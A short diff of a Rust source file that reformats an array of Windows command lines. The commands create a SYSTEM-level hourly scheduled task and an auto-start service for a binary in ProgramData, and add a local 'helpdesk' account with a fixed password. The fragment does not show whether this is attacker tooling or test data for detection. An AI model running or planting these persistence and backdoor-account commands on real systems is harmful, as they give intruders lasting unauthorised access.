@@ -31,10 +31,7 @@ const COMMANDS: &[(&str, &str)] = &[
         "C:\\Windows\\System32\\schtasks.exe",
         "schtasks  /create /tn \"RII Updater\" /sc hourly /ru SYSTEM /tr C:\\ProgramData\\sync\\sync.exe",
     ),
-    (
-        "C:\\Windows\\System32\\sc.exe",
-        "sc  create riisvc binPath= \"C:\\ProgramData\\sync\\sync.exe -k netsvcs\" start= auto",
-    ),
+    ("C:\\Windows\\System32\\sc.exe", "sc  create riisvc binPath= \"C:\\ProgramData\\sync\\sync.exe -k netsvcs\" start= auto"),
     ("C:\\Windows\\System32\\net.exe", "net  user helpdesk Spring2021! /add"),
 ];
 
